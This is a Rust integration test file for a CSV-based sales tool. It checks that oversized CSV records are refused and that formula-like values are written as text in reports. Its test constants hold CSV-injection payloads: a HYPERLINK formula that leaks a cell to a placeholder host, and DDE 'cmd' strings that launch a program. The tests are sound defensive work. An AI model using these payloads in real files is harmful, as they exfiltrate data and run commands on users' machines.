//! Hostile and broken input through the real binary (issue 8): a record
//! over the 10 MB limit is refused with a clear error and nothing is
//! stored; names that are spreadsheet formulas come out of every CSV report
//! as text, while the bundle `kura export` writes keeps them exactly.

use super::server::{kura, stdout};
use std::path::Path;

/// `kura import kura b` on `t.db`: (success, stderr).
fn import(d: &Path) -> (bool, String) {
    let out = kura(d)
        .args(["--database", "t.db", "--lang", "en", "import", "kura", "b"])
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Whether anything was stored: `kura export` of an empty database writes
/// no activity.
fn stored_activities(d: &Path) -> usize {
    let out = kura(d)
        .args(["--database", "t.db", "export", "check"])
        .output()
        .unwrap();
    if !out.status.success() {
        return 0;
    }
    std::fs::read_to_string(d.join("check/activities.csv"))
        .map(|t| t.lines().count().saturating_sub(1))
        .unwrap_or(0)
}

const MB: usize = 1024 * 1024;

#[test]
fn a_csv_line_over_10_mb_is_refused_naming_its_line_and_nothing_is_stored() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let b = d.join("b");
    std::fs::create_dir(&b).unwrap();
    std::fs::write(b.join("reps.csv"), "id,name,team\nr1,Sato,t1\n").unwrap();
    // Line 3 is 10 MB and a few bytes: one huge unquoted note.
    let mut activities =
        String::from("id,occurred_at,rep,kind,direction,personal,call_result,target\n");
    activities.push_str("a1,2026-09-24 10:00,r1,call,outbound,true,connected,L1\n");
    activities.push_str("a2,2026-09-24 11:00,r1,call,outbound,true,connected,");
    activities.push_str(&"L".repeat(10 * MB));
    activities.push('\n');
    std::fs::write(b.join("activities.csv"), activities).unwrap();

    let (ok, err) = import(d);
    assert!(!ok, "{err}");
    assert!(
        err.contains(
            "activities.csv:3: the record starting on this line is longer than 10 MB: \
             look for a quote (\") that is never closed"
        ),
        "{err}"
    );
    assert_eq!(stored_activities(d), 0);
}

#[test]
fn a_quote_never_closed_in_a_large_file_is_refused_not_read_into_memory() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let b = d.join("b");
    std::fs::create_dir(&b).unwrap();
    // A stray quote on line 2 turns the following 12 MB of ordinary rows
    // into one field: refused at the 10 MB limit, naming line 2.
    let mut activities = String::from("id,occurred_at,rep,kind\n");
    activities.push_str("a0,2026-09-24 09:00,r1,\"call\n");
    let row = "a1,2026-09-24 10:00,r1,call\n";
    for _ in 0..(12 * MB / row.len()) {
        activities.push_str(row);
    }
    std::fs::write(b.join("activities.csv"), activities).unwrap();

    let (ok, err) = import(d);
    assert!(!ok, "{err}");
    assert!(
        err.contains("activities.csv:2: the record starting on this line is longer than 10 MB"),
        "{err}"
    );
    assert_eq!(stored_activities(d), 0);
}

#[test]
fn a_long_line_under_the_limit_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let b = d.join("b");
    std::fs::create_dir(&b).unwrap();
    // A 2 MB account name is odd but within the limit: stored as given.
    let name = "長".repeat(2 * MB / 3);
    std::fs::write(
        b.join("accounts.csv"),
        format!("id,name,industry\nA1,{name},製造業\n"),
    )
    .unwrap();
    let (ok, err) = import(d);
    assert!(ok, "{err}");
    stdout(kura(d).args(["--database", "t.db", "export", "out"]));
    let exported = std::fs::read_to_string(d.join("out/accounts.csv")).unwrap();
    assert!(exported.contains(&name));
}

/// Formulas a spreadsheet would run, as names, ids and teams.
const HYPERLINK: &str = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

/// One rep whose id, team, customers' names and a next action's id are
/// formulas, contacted before the 2026 silver week, with next actions due
/// in its bridge days (the shape of tests/plan.rs's bundle).
fn write_formula_bundle(dir: &Path) {
    fn cell(s: &str) -> String {
        format!("\"{}\"", s.replace('"', "\"\""))
    }
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("reps.csv"),
        format!("id,name,team\n{},{},{}\n", cell(MINUS), cell(AT), cell(CMD)),
    )
    .unwrap();
    std::fs::write(
        dir.join("accounts.csv"),
        format!(
            "id,name,industry\nA1,{},製造業\nA2,{},製造業\n",
            cell(HYPERLINK),
            cell("=1+1")
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("leads.csv"),
        format!(
            "id,account_id,owner,created_at,source,status\n\
             {},A1,{},2026-06-01 10:00,web,open\n\
             L2,A2,{},2026-06-01 10:00,web,open\n",
            cell(AT),
            cell(MINUS),
            cell(MINUS)
        ),
    )
    .unwrap();
    let mut activities =
        String::from("id,occurred_at,rep,kind,direction,personal,call_result,target\n");
    for (i, (day, target)) in [
        ("2026-08-20", AT),
        ("2026-08-27", "L2"),
        ("2026-09-03", AT),
        ("2026-09-10", "L2"),
        ("2026-09-24", AT),
    ]
    .iter()
    .enumerate()
    {
        activities.push_str(&format!(
            "a{i},{day} 10:00,{},call,outbound,true,connected,{}\n",
            cell(MINUS),
            cell(target)
        ));
    }
    std::fs::write(dir.join("activities.csv"), activities).unwrap();
    // The call list is the window's due next actions.
    std::fs::write(
        dir.join("next_actions.csv"),
        format!(
            "id,rep,target,created_at,due_on,status,promised\n\
             {},{},{},2026-09-10 10:00,2026-09-24,open,true\n\
             N2,{},L2,2026-09-10 10:00,2026-09-25,open,false\n",
            cell("=N1"),
            cell(MINUS),
            cell(AT),
            cell(MINUS)
        ),
    )
    .unwrap();
}

/// Every cell of a CSV text, parsed.
fn cells(csv_text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell starts a formula: a leading = + - @ tab or CR is only allowed
/// on a number (-0.5).
fn assert_no_formula(csv_text: &str) {
    for cell in cells(csv_text) {
        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert!(
                cell.parse::<f64>().is_ok() && !cell.contains(char::is_alphabetic),
                "a formula cell {cell:?} in\n{csv_text}"
            );
        }
    }
}

#[test]
fn formula_names_come_out_of_csv_reports_as_text_and_the_bundle_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    write_formula_bundle(&d.join("b"));
    let (ok, err) = import(d);
    assert!(ok, "{err}");

    // The plan's call list: the rep, the target and the company are text.
    let plan = stdout(kura(d).args([
        "--database",
        "t.db",
        "--lang",
        "en",
        "plan",
        "--window",
        "2026-09-24",
        "--today",
        "2026-09-15",
        "--format",
        "csv",
    ]));
    assert_no_formula(&plan);
    let plan_cells = cells(&plan);
    for quoted in [MINUS, AT, HYPERLINK, "=1+1", "=N1"] {
        let want = format!("'{quoted}");
        assert!(
            plan_cells.contains(&want),
            "{want:?} missing from the call list:\n{plan}"
        );
    }

    // The diagnosis: the rep's id and team are text, the figures numbers.
    let diagnosis = stdout(kura(d).args([
        "--database",
        "t.db",
        "--lang",
        "en",
        "diagnose",
        "--window",
        "2026-09-24",
        "--format",
        "csv",
    ]));
    assert_no_formula(&diagnosis);
    let diagnosis_cells = cells(&diagnosis);
    for quoted in [MINUS, CMD] {
        let want = format!("'{quoted}");
        assert!(
            diagnosis_cells.contains(&want),
            "{want:?} missing from the diagnosis:\n{diagnosis}"
        );
    }

    // The bundle is data, not a report: kura export writes every value
    // exactly (CSV-quoted, no added '), so export → import round-trips.
    stdout(kura(d).args(["--database", "t.db", "export", "out"]));
    let reps = cells(&std::fs::read_to_string(d.join("out/reps.csv")).unwrap());
    assert!(reps.contains(&MINUS.to_string()), "{reps:?}");
    assert!(reps.contains(&CMD.to_string()), "{reps:?}");
    let accounts = cells(&std::fs::read_to_string(d.join("out/accounts.csv")).unwrap());
    assert!(accounts.contains(&HYPERLINK.to_string()), "{accounts:?}");
    assert!(accounts.contains(&"=1+1".to_string()), "{accounts:?}");
    stdout(kura(d).args(["--database", "u.db", "import", "kura", "out"]));
    let plan_again = stdout(kura(d).args([
        "--database",
        "u.db",
        "--lang",
        "en",
        "plan",
        "--window",
        "2026-09-24",
        "--today",
        "2026-09-15",
        "--format",
        "csv",
    ]));
    assert_eq!(plan, plan_again);
}
